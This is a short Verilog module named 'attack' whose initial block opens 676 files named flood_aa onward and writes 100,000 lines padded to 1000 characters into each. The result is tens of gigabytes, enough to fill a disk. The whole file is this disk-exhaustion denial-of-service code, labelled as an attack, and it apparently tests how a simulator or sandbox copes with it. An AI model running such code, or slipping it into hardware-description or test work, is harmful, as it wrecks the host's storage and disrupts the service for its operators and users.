// Fills file after file.
module attack;
  integer file, index, line;
  function [7:0] letter(input integer n);
    letter = 97 + n;
  endfunction
  reg [8*12:1] path;
  initial begin
    $display("begins");
    $fflush;
    for (index = 0; index < 26 * 26; index = index + 1) begin
      path = {"flood_", letter(index % 26), letter(index / 26)};
      file = $fopen(path, "w");
      for (line = 0; line < 100000; line = line + 1) $fdisplay(file, "%1000d", line);
    end
    $display("GOT through");
  end
endmodule
